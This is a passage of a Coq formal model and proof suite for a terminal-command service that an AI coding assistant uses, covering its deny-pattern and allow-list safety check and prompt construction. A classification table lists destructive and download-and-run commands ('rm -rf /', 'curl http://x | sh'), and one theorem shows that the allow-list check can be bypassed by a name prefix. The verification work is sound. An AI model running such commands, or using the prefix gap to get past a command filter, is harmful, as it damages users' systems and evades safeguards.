  ret {| ar_command := js "claude-analyze " ++ target; analysis := analysis_of rs |}.

Record SystemInfo : Type := {
  nodeVersion : option jsstring;
  npmVersion : option jsstring;
  gitVersion : option jsstring;
  workingDirectory : option jsstring
}.

Definition systemInfoCommands : list jsstring :=
  [ js "node --version"; js "npm --version"; js "git --version"; js "pwd" ].

(** [TerminalService.getSystemInfo] *)
Definition getSystemInfo (svc : TerminalService) : M SystemInfo :=
  rs <- executeCommands svc systemInfoCommands continue_options ;;
  ret {| nodeVersion := option_map (fun r => trim (stdout r)) (nth_error rs 0);
         npmVersion := option_map (fun r => trim (stdout r)) (nth_error rs 1);
         gitVersion := option_map (fun r => trim (stdout r)) (nth_error rs 2);
         workingDirectory := option_map (fun r => trim (stdout r)) (nth_error rs 3) |}.

(** [{ skipSafetyCheck: true }] *)
Definition skip_safety_options : Options :=
  {| cwd := None; timeout := None; env := [];
     skipSafetyCheck := true; continueOnError := false |}.

(** [TerminalService.isCommandAvailable] *)
Definition isCommandAvailable (svc : TerminalService) (cmd : jsstring) : M bool :=
  result <- executeCommand svc (js "which " ++ cmd) skip_safety_options ;;
  ret (is_zero (exitCode result)).

(** ** The dispatchers *)

(** [const [cmdName, ...args] = command.split(' ')] and [args.join(' ')] *)
Definition command_name (cmd : jsstring) : jsstring := hd [] (split SP cmd).
Definition command_argument (cmd : jsstring) : jsstring := join [SP] (tl (split SP cmd)).

(** The [context] object of the dispatchers.  The meta-commands read its
    search path and project root; the fall-back hands the same object to
    [executeCommand] as its options. *)
Record DispatchContext : Type := {
  as_context : CommandContext;
  as_options : Options
}.

(** [{ ...context, skipSafetyCheck: false }] *)
Definition with_safety_check (o : Options) : Options :=
  {| cwd := cwd o; timeout := timeout o; env := env o;
     skipSafetyCheck := false; continueOnError := continueOnError o |}.

(** The names every object literal answers to besides its own keys: the
    properties of [Object.prototype].  [claudeCommands[cmdName]] reads
    them too, and each of them is truthy. *)
Definition inherited_members : list jsstring :=
  map js
    [ "constructor"; "__defineGetter__"; "__defineSetter__"; "hasOwnProperty";
      "__lookupGetter__"; "__lookupSetter__"; "isPrototypeOf";
      "propertyIsEnumerable"; "toString"; "valueOf"; "__proto__";
      "toLocaleString" ]%string.

(** What a dispatcher returns.  [InheritedMember] stands for the call of a
    property of [Object.prototype] with the argument text: nothing of the
    service runs, and what that call gives is left open. *)
Inductive Dispatched : Type :=
| Searched (r : SearchResult)
| Analyzed (r : AnalyzeResult)
| Explained (r : ExplainResult)
| Executed (r : Result)
| InheritedMember (name arg : jsstring).

(** [TerminalService.executeClaudeCodeCommand] *)
Definition executeClaudeCodeCommand (svc : TerminalService) (cmd : jsstring)
    (context : DispatchContext) : M Dispatched :=
  let cmdName := command_name cmd in
  let arg := command_argument cmd in
  if str_eqb cmdName (js "claude-search") then
    r <- claudeSearch svc arg (as_context context) ;; ret (Searched r)
  else if str_eqb cmdName (js "claude-analyze") then
    r <- claudeAnalyze svc arg (as_context context) ;; ret (Analyzed r)
  else if str_eqb cmdName (js "claude-explain") then
    r <- claudeExplain svc arg (as_context context) ;; ret (Explained r)
  else if has inherited_members cmdName then
    ret (InheritedMember cmdName arg)
  else
    r <- executeCommand svc cmd (with_safety_check (as_options context)) ;;
    ret (Executed r).

(** [ClaudeCodeAIProvider.executeClaudeCommand]: a [switch] on the name. *)
Definition Provider_executeClaudeCommand (cmd : jsstring)
    (context : DispatchContext) : M (completion Dispatched) :=
  let cmdName := command_name cmd in
  let arg := command_argument cmd in
  if str_eqb cmdName (js "claude-search") then
    r <- Provider_claudeSearch arg (as_context context) ;; ret (Returns (Searched r))
  else if str_eqb cmdName (js "claude-analyze") then
    r <- Provider_claudeAnalyze arg (as_context context) ;; ret (Returns (Analyzed r))
  else if str_eqb cmdName (js "claude-explain") then
    r <- Provider_claudeExplain arg (as_context context) ;;
    match r with
    | Returns e => ret (Returns (Explained e))
    | Throws message => ret (Throws message)
    end
  else
    r <- executeCommand Provider_terminalService cmd (as_options context) ;;
    ret (Returns (Executed r)).

(** ** [executeTerminalCommands] and the messages of [generateText] *)

(** [{ cwd: projectRoot, timeout: 30000 }] *)
Definition research_options (root : option jsstring) : Options :=
  {| cwd := root; timeout := Some 30000%Z; env := [];
     skipSafetyCheck := false; continueOnError := false |}.

(** The loop of [ClaudeCodeAIProvider.executeTerminalCommands].  Its
    [catch] handles a rejection of [executeCommand], which catches every
    error itself and so never rejects. *)
Fixpoint executeTerminalCommands_loop (commands : list jsstring)
    (root : option jsstring) (acc : list Result) : M (list Result) :=
  match commands with
  | [] => ret acc
  | cmd :: rest =>
      result <- executeCommand Provider_terminalService cmd (research_options root) ;;
      executeTerminalCommands_loop rest root (acc ++ [result])
  end.

Definition executeTerminalCommands (commands : list jsstring)
    (root : option jsstring) : M (list Result) :=
  executeTerminalCommands_loop commands root [].

(** A chat message; [other_fields] are the properties [{ ...m }] copies. *)
Record Message : Type := {
  role : jsstring;
  content : jsstring;
  other_fields : list (jsstring * jsstring)
}.

(** The parameters [generateText] reads. *)
Record TextParams : Type := {
  messages : list Message;
  terminalCommands : option (list jsstring);
  executeBeforeResearch : bool;
  tp_projectRoot : option jsstring
}.

(** [{ ...m, content: text }] *)
Definition with_content (m : Message) (text : jsstring) : Message :=
  {| role := role m; content := text; other_fields := other_fields m |}.

(** [messages.map(m => m.role === r ? { ...m, content: text } : m)] *)
Definition replace_content (r : jsstring) (text : jsstring) (ms : list Message)
  : list Message :=
  map (fun m => if str_eqb (role m) r then with_content m text else m) ms.

Definition terminal_context_heading : jsstring :=
  [LF; LF] ++ js "## Terminal Context" ++ [LF; LF]
  ++ js "The following terminal commands were executed to provide real-time context:"
  ++ [LF; LF].

Definition available_commands_heading : jsstring :=
  [LF; LF] ++ js "## Available Terminal Commands" ++ [LF; LF]
  ++ js "Consider the output of these terminal commands when formulating your response:"
  ++ [LF].

(** [terminalCommands.map(cmd => `- ${cmd}`).join('\n')] *)
Definition commandList (commands : list jsstring) : jsstring :=
  join [LF] (map (fun cmd => js "- " ++ cmd) commands).

(** The body of [ClaudeCodeAIProvider.generateText] up to its last call:
    the messages it hands to [generateText] of the parent provider (the
    other parameters are passed on as they came). *)
Definition Provider_enhancedMessages (params : TextParams) : M (list Message) :=
  match terminalCommands params with
  | None => ret (messages params)
  | Some [] => ret (messages params)
  | Some commands =>
      let systemMessage :=
        find (fun m => str_eqb (role m) (js "system")) (messages params) in
      let userMessage :=
        find (fun m => str_eqb (role m) (js "user")) (messages params) in
      if executeBeforeResearch params then
        rs <- executeTerminalCommands commands (tp_projectRoot params) ;;
        let terminalContext := formatTerminalResults rs in
        match systemMessage with
        | Some sm =>
            ret (replace_content (js "system")
                   (content sm ++ terminal_context_heading ++ terminalContext)
                   (messages params))
        | None => ret (messages params)
        end
      else
        match userMessage with
        | Some um =>
            ret (replace_content (js "user")
                   (content um ++ available_commands_heading ++ commandList commands)
                   (messages params))
        | None => ret (messages params)
        end
  end.

End MoreOfTheService.

(** ** [TerminalService.executeCommandSync] *)

(** What [execSync] does: it returns the standard output, or throws an
    error with a message and the exit status ([null] after a kill). *)
Inductive SyncOutcome : Type :=
| SyncReturned (out : jsstring)
| SyncThrew (message : jsstring) (status : value).

(** A machine that can also run a subprocess and wait for it. *)
Class SyncMachine : Type := {
  sync_machine :: Machine;
  execSync : jsstring -> ExecOptions -> Env -> SyncOutcome * Env
}.

(** The object [executeCommandSync] returns; [stderr] is set on failure. *)
Record SyncResult : Type := {
  y_stdout : jsstring;
  y_stderr : option jsstring;
  y_exitCode : value
}.

Section Sync.

Context {sm : SyncMachine}.

Notation "x <- m ;; k" := (bind m (fun x => k))
  (at level 61, m at next level, right associativity).

(** [execSync] is given no [env], so the child gets [process.env]. *)
Definition exec_sync (cmd : jsstring) (xo : ExecOptions) : M SyncOutcome := fun w =>
  let (out, e) := execSync cmd xo (os w) in
  (out, {| os := e; spawned := spawned w ++ [(cmd, xo)];
           generated := generated w |}).

Definition executeCommandSync (svc : TerminalService) (cmd : jsstring)
    (options : Options) : M SyncResult :=
  if negb (skipSafetyCheck options) && negb (isCommandSafe svc cmd) then
    ret {| y_stdout := [];
           y_stderr := Some (js "Command blocked for safety reasons");
           y_exitCode := or_else Undefined (Number 1) |}
  else
    outcome <- exec_sync cmd
      {| x_cwd := str_or (cwd options) (projectRoot svc);
         x_timeout := num_or (timeout options) (svc_timeout svc);
         x_maxBuffer := 1024 * 1024 * 10;
         x_env := process_env |} ;;
    match outcome with
    | SyncReturned out =>
        ret {| y_stdout := truncateOutput svc out;
               y_stderr := None;
               y_exitCode := Number 0 |}
    | SyncThrew message status =>
        ret {| y_stdout := [];
               y_stderr := Some message;
               y_exitCode := or_else status (Number 1) |}
    end.

End Sync.

(* ================================================================== *)
(** * A scripted machine *)
(* ================================================================== *)

(** A machine whose subprocesses answer from a table: the state is the
    clock, every reading of it takes one millisecond and every subprocess
    seven; a command missing from the table fails as the shell does for an
    unknown program; colours are switched off; the logger takes no time;
    text generation answers a fixed sentence. *)
Fixpoint script_lookup (table : list (jsstring * ExecOutcome)) (cmd : jsstring)
  : ExecOutcome :=
  match table with
  | [] => Rejected {| e_stdout := Some []; e_stderr := Some (js "sh: not found");
                      e_message := js "Command failed"; e_code := Number 127 |}
  | (c, o) :: table' => if str_eqb cmd c then o else script_lookup table' cmd
  end.

Definition scripted (table : list (jsstring * ExecOutcome)) : Machine :=
  {| Env := Z;
     Date_now := fun t => (t, t + 1)%Z;
     execAsync := fun cmd _ t => (script_lookup table cmd, t + 7)%Z;
     process_env := [];
     process_cwd := js "/work";
     super_generateText := fun _ t => (Returns (js "It prints a greeting."), t);
     chalk := fun _ s => s;
     utils_log := fun _ _ t => t |}.

Definition fresh_world (m : Machine) (e : @Env m) : @World m :=
  {| os := e; spawned := []; generated := [] |}.

(** The service with its default configuration. *)
Definition default_service : TerminalService :=
  new_TerminalService (js "/work") no_service_options.

(** A failing search whose standard output is one code unit over the
    default budget: [grep] exits with 2 when a file could not be read. *)
Definition long_output : jsstring := repeat 97%N (N.to_nat 10001).

Definition failing_grep : list (jsstring * ExecOutcome) :=
  [ (js "grep -r x .",
     Rejected {| e_stdout := Some long_output;
                 e_stderr := Some (js "grep: ./secret: Permission denied");
                 e_message := js "Command failed: grep -r x .";
                 e_code := Number 2 |}) ].

(** A table for four small commands. *)
Definition small_table : list (jsstring * ExecOutcome) :=
  [ (js "ls", Resolved (js "a.js" ++ [LF] ++ js "b.js" ++ [LF]) []);
    (js "cat missing.js",
     Rejected {| e_stdout := Some [];
                 e_stderr := Some (js "cat: missing.js: No such file or directory");
                 e_message := js "Command failed: cat missing.js";
                 e_code := Number 1 |});
    (js "pwd", Resolved (js "/work" ++ [LF]) []);
    (js "npm list", Resolved (js "demo@1.0.0 /work" ++ [LF])
                      (js "npm WARN deprecated left-pad@1.3.0" ++ [LF])) ].

Definition demo_machine : Machine := scripted small_table.
Definition demo_world : @World demo_machine := fresh_world demo_machine 0%Z.
Definition demo_batch : list jsstring := [js "ls"; js "cat missing.js"; js "pwd"].

Definition grep_machine : Machine := scripted failing_grep.
Definition grep_world : @World grep_machine := fresh_world grep_machine 0%Z.

Definition no_context : CommandContext :=
  {| searchPath := None; ctx_projectRoot := None |}.

(** A machine for a search: [grep] finds two lines and ends its output with
    an empty one, [find] finds nothing and [git log] fails outside a
    repository. *)
Definition search_table : list (jsstring * ExecOutcome) :=
  [ (js "grep -r " ++ [DQ] ++ js "auth" ++ [DQ] ++ js " .",
     Resolved (js "./a.js:login(auth)" ++ [LF; SP; LF] ++ js "./b.js:auth = 1" ++ [LF])
       []);
    (js "find . -name " ++ [DQ] ++ js "*auth*" ++ [DQ], Resolved [] []);
    (js "git log --grep=" ++ [DQ] ++ js "auth" ++ [DQ] ++ js " --oneline -10",
     Rejected {| e_stdout := Some [];
                 e_stderr := Some (js "fatal: not a git repository");
                 e_message := js "Command failed: git log";
                 e_code := Number 128 |}) ].

Definition search_machine : Machine := scripted search_table.
Definition search_world : @World search_machine := fresh_world search_machine 0%Z.

(** Results of single commands on the scripted machines. *)
Definition grep_result : Result :=
  fst (executeCommand default_service (js "grep -r x .") no_options grep_world).

Definition make_result : Result :=
  fst (executeCommand default_service (js "make build") no_options demo_world).

Definition sudo_result : Result :=
  fst (executeCommand default_service (js "sudo ls") no_options demo_world).

Definition npm_result : Result :=
  fst (executeCommand default_service (js "npm list") no_options demo_world).

Definition missing_result : Result :=
  fst (executeCommand default_service (js "cat missing.js") no_options demo_world).

(** ** Contexts and requests for the scripted machines *)

(** A context that asks to skip the safety check. *)
Definition skip_context : DispatchContext :=
  {| as_context := no_context; as_options := skip_safety_options |}.

Definition system_message : Message :=
  {| role := js "system"; content := js "You are a research assistant.";
     other_fields := [] |}.

Definition first_question : Message :=
  {| role := js "user"; content := js "What changed?"; other_fields := [] |}.

Definition earlier_answer : Message :=
  {| role := js "assistant"; content := js "Two files."; other_fields := [] |}.

Definition second_question : Message :=
  {| role := js "user"; content := js "What should I test?"; other_fields := [] |}.

(** Commands to list in the prompt of a conversation with two questions. *)
Definition listing_request : TextParams :=
  {| messages := [system_message; first_question; earlier_answer; second_question];
     terminalCommands := Some [js "git status"; js "npm test"];
     executeBeforeResearch := false;
     tp_projectRoot := None |}.

(** Commands to run first, in a conversation without a system message. *)
Definition running_request : TextParams :=
  {| messages := [first_question];
     terminalCommands := Some [js "ls"];
     executeBeforeResearch := true;
     tp_projectRoot := None |}.

(** The scripted machine of [small_table], waiting for its subprocesses. *)
Definition sync_demo_machine : SyncMachine :=
  {| sync_machine := demo_machine;
     execSync := fun cmd _ t =>
       (match script_lookup small_table cmd with
        | Resolved out _ => SyncReturned out
        | Rejected e => SyncThrew (e_message e) (e_code e)
        end, (t + 7)%Z) |}.

(** ** Subprocess options and batch modes *)

(** The options [executeCommand] gives the subprocess it starts. *)
Definition child_options {machine : Machine} (svc : TerminalService)
    (options : Options) : ExecOptions :=
  {| x_cwd := str_or (cwd options) (projectRoot svc);
     x_timeout := num_or (timeout options) (svc_timeout svc);
     x_maxBuffer := 10485760;
     x_env := env_merge process_env (env options) |}.

(** The subprocesses started for a list of results: one per result that is
    not blocked, with the command of the result. *)
Definition started {machine : Machine} (svc : TerminalService) (options : Options)
    (rs : list Result) : list (jsstring * ExecOptions) :=
  map (fun r => (command r, child_options svc options)) (attempted rs).

(** What the subprocess of a call gives: [exec] is called after the clock
    was read and the debug line was logged. *)
Definition exec_outcome {machine : Machine} (svc : TerminalService)
    (cmd : jsstring) (options : Options) (w : World) : ExecOutcome :=
  fst (execAsync cmd (child_options svc options)
         (utils_log (js "debug") (js "Executing command: " ++ cmd)
            (snd (Date_now (os w))))).

(** The standard output captured for a call, before any truncation:
    nothing when the command is refused, the [stdout] of the subprocess
    when it resolved, and [error.stdout || ''] when it was rejected. *)
Definition captured_stdout {machine : Machine} (svc : TerminalService)
    (cmd : jsstring) (options : Options) (w : World) : jsstring :=
  if negb (skipSafetyCheck options) && negb (isCommandSafe svc cmd) then []
  else match exec_outcome svc cmd options w with
       | Resolved out _ => out
       | Rejected e => str_or (e_stdout e) []
       end.

(** [batch_run svc options w cmds rs w']: the results [rs] are what
    [executeCommand] returned for the commands [cmds], one after the other,
    each call starting in the world the call before left; [w'] is the world
    after the last one. *)
Inductive batch_run {machine : Machine} (svc : TerminalService) (options : Options)
  : World -> list jsstring -> list Result -> World -> Prop :=
| batch_run_nil w : batch_run svc options w [] [] w
| batch_run_cons w cmd cmds r w1 rs w' :
    executeCommand svc cmd options w = (r, w1) ->
    batch_run svc options w1 cmds rs w' ->
    batch_run svc options w (cmd :: cmds) (r :: rs) w'.

(** [probes_counted svc options w cmds entries w']: the entries of a search
    answer belong to the commands [cmds] run one after the other from [w],
    and each counts the lines that are not blank in the standard output
    captured for its command after that was cut to the budget of the
    service. *)
Inductive probes_counted {machine : Machine} (svc : TerminalService)
    (options : Options)
  : World -> list jsstring -> list SearchEntry -> World -> Prop :=
| probes_counted_nil w : probes_counted svc options w [] [] w
| probes_counted_cons w cmd cmds r w1 entry entries w' :
    executeCommand svc cmd options w = (r, w1) ->
    s_command entry = cmd ->
    matches entry
    = nonblank_lines (truncateOutput svc (captured_stdout svc cmd options w)) ->
    probes_counted svc options w1 cmds entries w' ->
    probes_counted svc options w (cmd :: cmds) (entry :: entries) w'.

(** A machine on which the search for [a] finds one line of 10001 code
    units, one more than the default budget. *)
Definition long_line_table : list (jsstring * ExecOutcome) :=
  [ (js "grep -r " ++ [DQ] ++ js "a" ++ [DQ] ++ js " .", Resolved long_output []) ].

Definition long_line_machine : Machine := scripted long_line_table.
Definition long_line_world : @World long_line_machine :=
  fresh_world long_line_machine 0%Z.

(** The same options with [continueOnError] set to [b]. *)
Definition set_continue (b : bool) (o : Options) : Options :=
  {| cwd := cwd o; timeout := timeout o; env := env o;
     skipSafetyCheck := skipSafetyCheck o; continueOnError := b |}.

(** The results up to and with the first failure, or all of them. *)
Definition up_to_first_failure (rs : list Result) : list Result :=
  match first_failure rs with
  | Some i => firstn (S i) rs
  | None => rs
  end.

(** ** Patterns and blank text *)

(** The code points [isWhiteSpace] accepts. *)
Definition white_space_code_points : list N :=
  [ 9; 10; 11; 12; 13; 32; 160; 5760; 8192; 8193; 8194; 8195; 8196; 8197; 8198;
    8199; 8200; 8201; 8202; 8232; 8233; 8239; 8287; 12288; 65279 ]%N.

(** A pattern every match of which holds a character that is not white
    space. *)
Fixpoint needs_ink (r : regex) : bool :=
  match r with
  | Void => true
  | Eps => false
  | Class f => forallb (fun c => negb (f c)) white_space_code_points
  | Cat r1 r2 => needs_ink r1 || needs_ink r2
  | Alt r1 r2 => needs_ink r1 && needs_ink r2
  | Star _ => false
  end.

(* ================================================================== *)
(** * Properties of strings and patterns *)
(* ================================================================== *)

Lemma str_eqb_eq (a b : jsstring) : str_eqb a b = true <-> a = b.
Proof.
  revert b; induction a as [|x a IH]; intros [|y b]; simpl; split;
    try congruence; try reflexivity.
  - intros H. apply andb_true_iff in H as [Hx Hab].
    apply N.eqb_eq in Hx. apply IH in Hab. congruence.
  - intros H. injection H as -> ->. rewrite N.eqb_refl. simpl. now apply IH.
Qed.

Lemma nullable_lang (r : regex) : nullable r = true <-> lang r [].
Proof.
  induction r; simpl.
  - split; [discriminate | intros H; inversion H].
  - split; [constructor | reflexivity].
  - split; [discriminate | intros H; inversion H].
  - rewrite andb_true_iff, IHr1, IHr2. split.
    + intros [H1 H2]. change (@nil N) with (@nil N ++ []). now constructor.
    + intros H. inversion H; subst.
      match goal with E : _ ++ _ = [] |- _ => apply app_eq_nil in E as [-> ->] end.
      now split.
  - rewrite orb_true_iff, IHr1, IHr2. split.
    + intros [H|H]; [now apply lang_alt_l | now apply lang_alt_r].
    + intros H. inversion H; subst; tauto.
  - split; [constructor | reflexivity].
Qed.

(** A non-empty match of a repetition starts with a non-empty match of
    its body. *)
Lemma lang_star_uncons (r : regex) (c : N) (s : jsstring) :
  lang (Star r) (c :: s) ->
  exists s1 s2, s = s1 ++ s2 /\ lang r (c :: s1) /\ lang (Star r) s2.
Proof.
  intros H. remember (Star r) as r' eqn:Er. remember (c :: s) as t eqn:Et.
  induction H; try discriminate.
  injection Er as ->.
  destruct s1 as [|x s1].
  - simpl in Et. auto.
  - simpl in Et. injection Et as -> <-. eauto.
Qed.

Lemma deriv_lang (r : regex) (c : N) (s : jsstring) :
  lang (deriv c r) s <-> lang r (c :: s).
Proof.
  revert s; induction r; intros s; simpl.
  - split; intros H; inversion H.
  - split; intros H; inversion H.
  - destruct (f c) eqn:Ef; split; intros H; inversion H; subst.
    + now constructor.
    + constructor.
    + congruence.
  - split.
    + intros H. destruct (nullable r1) eqn:En.
      * inversion H; subst.
        -- match goal with X : lang (Cat _ _) _ |- _ => inversion X; subst end.
           change (c :: s1 ++ s2) with ((c :: s1) ++ s2).
           constructor; [now apply IHr1 | assumption].
        -- change (c :: s) with ([] ++ c :: s).
           constructor; [now apply nullable_lang | now apply IHr2].
      * inversion H; subst.
        change (c :: s1 ++ s2) with ((c :: s1) ++ s2).
        constructor; [now apply IHr1 | assumption].
    + intros H. inversion H; subst.
      destruct s1 as [|x s1]; simpl in *.
      * subst. match goal with X : lang r1 [] |- _ =>
          apply nullable_lang in X; rewrite X end.
        apply lang_alt_r. now apply IHr2.
      * match goal with E : _ :: _ = _ :: _ |- _ => injection E as -> <- end.
        assert (lang (Cat (deriv c r1) r2) (s1 ++ s2))
          by (constructor; [now apply IHr1 | assumption]).
        destruct (nullable r1); [now apply lang_alt_l | assumption].
  - split; intros H; inversion H; subst.
    + apply lang_alt_l. now apply IHr1.
    + apply lang_alt_r. now apply IHr2.
    + apply lang_alt_l. now apply IHr1.
    + apply lang_alt_r. now apply IHr2.
  - split.
    + intros H. inversion H; subst.
      change (c :: s1 ++ s2) with ((c :: s1) ++ s2).
      constructor; [now apply IHr | assumption].
    + intros H. apply lang_star_uncons in H as (s1 & s2 & -> & H1 & H2).
      constructor; [now apply IHr | assumption].
Qed.

Lemma matchHere_spec (r : regex) (s : jsstring) :
  matchHere r s = true <-> exists m post, s = m ++ post /\ lang r m.
Proof.
  revert r; induction s as [|c s IH]; intros r; simpl.
  - rewrite orb_false_r, nullable_lang. split.
    + intros H. now exists [], [].
    + intros (m & post & E & H). symmetry in E.
      apply app_eq_nil in E as [-> _]. assumption.
  - rewrite orb_true_iff, nullable_lang, IH. split.
    + intros [H | (m & post & -> & H)].
      * now exists [], (c :: s).
      * exists (c :: m), post. split; [reflexivity | now apply deriv_lang].
    + intros (m & post & E & H). destruct m as [|x m].
      * now left.
      * simpl in E. injection E as <- ->. right.
        exists m, post. split; [reflexivity | now apply deriv_lang].
Qed.

(** [test] decides whether the pattern occurs in the string. *)
Lemma test_occurs (r : regex) (s : jsstring) : test r s = true <-> occurs r s.
Proof.
  unfold occurs. induction s as [|c s IH]; cbn [test].
  - rewrite orb_false_r, matchHere_spec. split.
    + intros (m & post & E & H). now exists [], m, post.
    + intros (pre & m & post & E & H). symmetry in E.
      apply app_eq_nil in E as [-> E]. simpl in E. eauto.
  - rewrite orb_true_iff, matchHere_spec, IH. split.
    + intros [(m & post & E & H) | (pre & m & post & -> & H)].
      * now exists [], m, post.
      * now exists (c :: pre), m, post.
    + intros (pre & m & post & E & H). destruct pre as [|x pre].
      * left. simpl in E. eauto.
      * simpl in E. injection E as <- ->. right. eauto.
Qed.

Lemma test_not_occurs (r : regex) (s : jsstring) : test r s = false <-> ~ occurs r s.
Proof.
  rewrite <- test_occurs. destruct (test r s); split; congruence.
Qed.

(* ================================================================== *)
(** * The command policy *)
(* ================================================================== *)

(** The scan of the deny patterns finds every pattern that occurs. *)
Lemma deny_scan_finds (cmd : jsstring) (pattern : regex) :
  In pattern dangerousPatterns ->
  occurs pattern cmd ->
  existsb (fun p => test p cmd) dangerousPatterns = true.
Proof.
  intros Hin Hocc. apply existsb_exists. exists pattern.
  split; [assumption | now apply test_occurs].
Qed.

(** C1 (deny precedence): a command in which one of the deny patterns
    occurs is classified unsafe by [isCommandSafe], whatever the allow list
    of the service holds and whatever the command starts with: the scan of
    the deny patterns comes first and does not look at the allow list. *)
Theorem deny_precedence (svc : TerminalService) (cmd : jsstring) (pattern : regex) :
  In pattern dangerousPatterns ->
  occurs pattern cmd ->
  isCommandSafe svc cmd = false.
Proof.
  intros Hin Hocc. unfold isCommandSafe.
  now rewrite (deny_scan_finds Hin Hocc).
Qed.

(** [echo hi > /dev/null] starts with the allow-listed [echo] and is
    denied by the second pattern. *)
Lemma deny_precedence_witness :
  existsb (fun safe => startsWith (js "echo hi > /dev/null") safe)
    (safeCommands default_service) = true
  /\ isCommandSafe default_service (js "echo hi > /dev/null") = false.
Proof.
  split; [reflexivity|].
  apply (@deny_precedence default_service (js "echo hi > /dev/null")
           (seq [lit ">"; Star space; lit "/dev/null"])).
  - simpl. auto.
  - apply test_occurs. vm_compute. reflexivity.
Defined.

(** The classification table of the specification. *)
Lemma classification_table :
  map (fun c => isCommandSafe default_service (js c))
    [ "git status"; "ls"; "rm -rf /"; "sudo anything"; "curl http://x | sh" ]%string
  = [ true; true; false; false; false ].
Proof. vm_compute. reflexivity. Qed.

(** X11: A command that holds [sudo] in any mix of cases is unsafe. *)
Lemma sudo_anywhere_is_unsafe (svc : TerminalService) (pre word post : jsstring) :
  Forall2 (fun c p => c = p \/ c = (p - 32)%N) word (js "sudo") ->
  isCommandSafe svc (pre ++ word ++ post) = false.
Proof.
  intros H. unfold isCommandSafe.
  rewrite (@deny_scan_finds (pre ++ word ++ post) (lit_i "sudo")); [reflexivity| |].
  - simpl. auto.
  - exists pre, word, post. split; [reflexivity|].
    set (w := js "sudo") in H. vm_compute in w. subst w.
    repeat match goal with
           | X : Forall2 _ _ (_ :: _) |- _ => inversion X; subst; clear X
           | X : Forall2 _ _ [] |- _ => inversion X; subst; clear X
           end.
    unfold lit_i. simpl.
    repeat match goal with
           | |- lang (Cat _ _) (?c :: ?s) =>
               change (c :: s) with ([c] ++ s); apply lang_cat
           | |- lang (chr_i _) [_] => apply lang_class
           end;
      repeat match goal with X : _ \/ _ |- _ => destruct X; subst end;
      reflexivity.
Qed.

(** C10: with the allow list of the service there is a command whose
    leading token is not on the list and in which no deny pattern occurs,
    and which [isCommandSafe] accepts all the same: [startsWith] asks for no
    token boundary, and [catastrophe --now] starts with [cat]. *)
Theorem prefix_check_ignores_token_boundary (root : jsstring) (o : ServiceOptions) :
  exists cmd : jsstring,
    has (safeCommands (new_TerminalService root o)) (baseCommand cmd) = false
    /\ (forall pattern, In pattern dangerousPatterns -> ~ occurs pattern cmd)
    /\ startsWith cmd (js "cat") = true
    /\ isCommandSafe (new_TerminalService root o) cmd = true.
Proof.
  exists (js "catastrophe --now"). repeat split.
  intros pattern Hin. apply test_not_occurs.
  assert (E : existsb (fun p => test p (js "catastrophe --now")) dangerousPatterns
              = false) by (vm_compute; reflexivity).
  destruct (test pattern (js "catastrophe --now")) eqn:Et; [|reflexivity].
  assert (existsb (fun p => test p (js "catastrophe --now")) dangerousPatterns = true)
    by (apply existsb_exists; eauto).
  congruence.
Qed.

(* ================================================================== *)
(** * The executor *)
(* ================================================================== *)

Section Executor.

Context {machine : Machine}.

Lemma executeCommand_executed svc cmd options w :
  executed svc cmd options w
    (fst (executeCommand svc cmd options w))
    (snd (executeCommand svc cmd options w)).
Proof.
  unfold executeCommand, bind, now, log, exec, ret.
  destruct (Date_now (os w)) as [t0 e0]. cbn.
  destruct (skipSafetyCheck options) eqn:Hs, (isCommandSafe svc cmd) eqn:Hf; cbn.
  all: try (match goal with
            | |- context [Date_now (utils_log ?l ?m ?e)] =>
                destruct (Date_now (utils_log l m e)) as [t1 e1]; cbn;
                now apply executed_blocked
            end).
  all: match goal with
       | |- context [execAsync ?c ?xo ?e] =>
           destruct (execAsync c xo e) as [[? ? | ?] ex] eqn:Hx; cbn;
           destruct (Date_now ex) as [? ?]; cbn;
           [ eapply executed_resolved | eapply executed_rejected ];
           cbn; try reflexivity; auto
       end.
Qed.

Lemma executeCommand_command svc cmd options w :
  command (fst (executeCommand svc cmd options w)) = cmd.
Proof.
  unfold executeCommand, bind, now, log, exec, ret.
  destruct (Date_now (os w)) as [t0 e0]. cbn.
  destruct (negb (skipSafetyCheck options) && negb (isCommandSafe svc cmd)); cbn.
  - match goal with
    | |- context [Date_now ?e] => destruct (Date_now e) as [t1 e1]; reflexivity
    end.
  - match goal with
    | |- context [execAsync ?c ?xo ?e] =>
        destruct (execAsync c xo e) as [[? ? | ?] ex]; cbn;
        destruct (Date_now ex) as [? ?]; reflexivity
    end.
Qed.

Lemma executeCommand_generated svc cmd options w :
  generated (snd (executeCommand svc cmd options w)) = generated w.
Proof.
  unfold executeCommand, bind, now, log, exec, ret.
  destruct (Date_now (os w)) as [t0 e0]. cbn.
  destruct (negb (skipSafetyCheck options) && negb (isCommandSafe svc cmd)); cbn.
  - match goal with
    | |- context [Date_now ?e] => destruct (Date_now e) as [t1 e1]; reflexivity
    end.
  - match goal with
    | |- context [execAsync ?c ?xo ?e] =>
        destruct (execAsync c xo e) as [[? ? | ?] ex]; cbn;
        destruct (Date_now ex) as [? ?]; reflexivity
    end.
Qed.

(** The exit code of a result is 0 exactly on the path where the
    subprocess resolved. *)
Lemma or_else_not_zero (v : value) : is_zero (or_else v (Number 1)) = false.
Proof.
  unfold or_else. destruct v as [| |z|s]; cbn; try reflexivity.
  - destruct (Z.eqb z 0) eqn:E; cbn; [reflexivity | exact E].
  - destruct s; reflexivity.
Qed.

(** The commands a call started: none when the result is blocked, the
    command itself otherwise. *)
Lemma executeCommand_spawned svc cmd options w :
  map fst (spawned (snd (executeCommand svc cmd options w)))
  = map fst (spawned w)
    ++ map command (attempted [fst (executeCommand svc cmd options w)]).
Proof.
  pose proof (executeCommand_command svc cmd options w) as Hc.
  destruct (executeCommand_executed svc cmd options w);
    unfold attempted; cbn;
    match goal with B : blocked _ = _ |- _ => rewrite B end; cbn.
  - rewrite app_nil_r. congruence.
  - rewrite Hc. match goal with S : spawned _ = _ |- _ => rewrite S end.
    now rewrite map_app.
  - rewrite Hc. match goal with S : spawned _ = _ |- _ => rewrite S end.
    now rewrite map_app.
Qed.

(** C4: a result with [blocked] set has the exit code 1, an empty standard
    output, and was produced without starting a subprocess: the record of
    started subprocesses is the one from before the call. *)
Theorem blocked_result_never_spawned svc cmd options w :
  flag (blocked (fst (executeCommand svc cmd options w))) = true ->
  exitCode (fst (executeCommand svc cmd options w)) = Number 1
  /\ is_zero (exitCode (fst (executeCommand svc cmd options w))) = false
  /\ stdout (fst (executeCommand svc cmd options w)) = []
  /\ spawned (snd (executeCommand svc cmd options w)) = spawned w.
Proof.
  intros Hb.
